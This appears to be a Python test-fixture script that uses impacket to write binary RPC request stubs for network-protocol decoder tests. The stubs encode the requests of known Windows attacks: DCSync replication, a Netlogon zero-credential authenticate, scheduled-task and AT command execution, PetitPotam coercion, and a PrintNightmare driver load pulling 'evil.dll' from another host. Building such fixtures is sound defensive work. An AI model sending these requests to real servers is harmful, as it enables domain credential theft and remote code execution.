"""Request stubs encoded by impacket (the tool DCSync and PsExec-style attacks use), for the
NDR decoders' tests: the lab's DRSUAPI traffic is sealed, so its stubs cannot be read from the
captures. Run with impacket 0.12 installed: python3 make_stubs.py"""
from impacket.dcerpc.v5 import drsuapi, samr, nrpc
from impacket.uuid import string_to_bin

DSA = "6c2e9f4e-1d2b-4b6f-9a1e-3f9b2c7d8e01"
NC = "DC=lab,DC=test"

def get_nc_changes(version, exop):
    req = drsuapi.DRSGetNCChanges()
    req['hDrs'] = b'\x00' * 20
    req['dwInVersion'] = version
    req['pmsgIn']['tag'] = version
    arm = req['pmsgIn']['V%d' % version]
    arm['uuidDsaObjDest'] = string_to_bin(DSA)
    arm['uuidInvocIdSrc'] = string_to_bin(DSA)
    dsname = drsuapi.DSNAME()
    dsname['SidLen'] = 0
    dsname['Guid'] = drsuapi.NULLGUID
    dsname['Sid'] = ''
    dsname['NameLen'] = len(NC)
    dsname['StringName'] = NC + '\x00'
    dsname['structLen'] = len(dsname.getData())
    arm['pNC'] = dsname
    arm['usnvecFrom']['usnHighObjUpdate'] = 0
    arm['usnvecFrom']['usnHighPropUpdate'] = 0
    arm['pUpToDateVecDest'] = drsuapi.NULL
    arm['ulFlags'] = drsuapi.DRS_INIT_SYNC | drsuapi.DRS_WRIT_REP
    arm['cMaxObjects'] = 1
    arm['cMaxBytes'] = 0
    arm['ulExtendedOp'] = exop
    if version >= 8:
        arm['pPartialAttrSet'] = drsuapi.NULL
        arm['pPartialAttrSetEx1'] = drsuapi.NULL
        arm['PrefixTableDest']['PrefixCount'] = 0
        arm['PrefixTableDest']['pPrefixEntry'] = drsuapi.NULL
    if version >= 10:
        arm['ulMoreFlags'] = 0
    return req.getData()

open('drsuapi_getncchanges_v8.bin', 'wb').write(get_nc_changes(8, drsuapi.EXOP_REPL_OBJ))
open('drsuapi_getncchanges_v10.bin', 'wb').write(get_nc_changes(10, 0))

req = samr.SamrLookupNamesInDomain()
req['DomainHandle'] = b'\x00' * 20
req['Count'] = 2
for name in ("Domain Admins", "krbtgt"):
    entry = samr.RPC_UNICODE_STRING()
    entry['Data'] = name
    req['Names'].append(entry)
open('samr_lookupnames.bin', 'wb').write(req.getData())

req = nrpc.NetrServerAuthenticate3()
req['PrimaryName'] = '\\\\DC1\x00'
req['AccountName'] = 'WS01$\x00'
req['SecureChannelType'] = nrpc.NETLOGON_SECURE_CHANNEL_TYPE.WorkstationSecureChannel
req['ComputerName'] = 'WS01\x00'
req['ClientCredential'] = b'\x00' * 8
req['NegotiateFlags'] = 0x212fffff
open('netlogon_authenticate3.bin', 'wb').write(req.getData())

from impacket.dcerpc.v5 import tsch, atsvc

TASK_XML = """<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <Actions Context="LocalSystem">
    <Exec>
      <Command>cmd.exe</Command>
      <Arguments>/C whoami &gt; %windir%\\Temp\\out.tmp 2&gt;&amp;1</Arguments>
    </Exec>
  </Actions>
</Task>
"""
req = tsch.SchRpcRegisterTask()
req['path'] = '\\Updater\x00'
req['xml'] = TASK_XML + '\x00'
req['flags'] = tsch.TASK_CREATE
req['sddl'] = tsch.NULL
req['logonType'] = tsch.TASK_LOGON_NONE
req['cCreds'] = 0
req['pCreds'] = tsch.NULL
open('tsch_registertask.bin', 'wb').write(req.getData())

req = atsvc.NetrJobAdd()
req['ServerName'] = atsvc.NULL
req['pAtInfo']['JobTime'] = 0
req['pAtInfo']['DaysOfMonth'] = 0
req['pAtInfo']['DaysOfWeek'] = 0
req['pAtInfo']['Flags'] = 0
req['pAtInfo']['Command'] = 'cmd.exe /c whoami\x00'
open('atsvc_jobadd.bin', 'wb').write(req.getData())

# MS-EFSR has no impacket module: the call as PetitPotam.py declares it.
from impacket.dcerpc.v5.ndr import NDRCALL
from impacket.dcerpc.v5.dtypes import WSTR, ULONG


class EfsRpcOpenFileRaw(NDRCALL):
    opnum = 0
    structure = (('FileName', WSTR), ('Flag', ULONG))


req = EfsRpcOpenFileRaw()
req['FileName'] = '\\\\10.99.0.21\\share\\file.txt\x00'
req['Flag'] = 0
open('efsr_openfileraw.bin', 'wb').write(req.getData())

# PrintNightmare's RpcAddPrinterDriverEx: DRIVER_INFO_2 with a data file on another host.
from impacket.dcerpc.v5 import rprn

req = rprn.RpcAddPrinterDriverEx()
req['pName'] = '\\\\10.99.0.10\x00'
container = rprn.DRIVER_CONTAINER()
container['Level'] = 2
container['DriverInfo']['tag'] = 2
info = container['DriverInfo']['Level2']
info['cVersion'] = 3
info['pName'] = 'Orthrus Lab Driver\x00'
info['pEnvironment'] = 'Windows x64\x00'
info['pDriverPath'] = 'C:\\Windows\\System32\\DriverStore\\FileRepository\\ntprint.inf_amd64\\Amd64\\UNIDRV.DLL\x00'
info['pDataFile'] = '\\\\10.99.0.21\\share\\evil.dll\x00'
info['pConfigFile'] = 'C:\\Windows\\System32\\winhttp.dll\x00'
req['pDriverContainer'] = container
req['dwFileCopyFlags'] = rprn.APD_COPY_ALL_FILES | 0x10 | 0x8000
open('rprn_addprinterdriverex.bin', 'wb').write(req.getData())

# MS-PAR's RpcAsyncAddPrinterDriver takes the same arguments (PrintNightmare over IRemoteWinspool).
from impacket.dcerpc.v5 import par

req = par.RpcAsyncAddPrinterDriver()
req['pName'] = '\\\\10.99.0.10\x00'
req['pDriverContainer'] = container
req['dwFileCopyFlags'] = rprn.APD_COPY_ALL_FILES | 0x10 | 0x8000
open('par_asyncaddprinterdriver.bin', 'wb').write(req.getData())
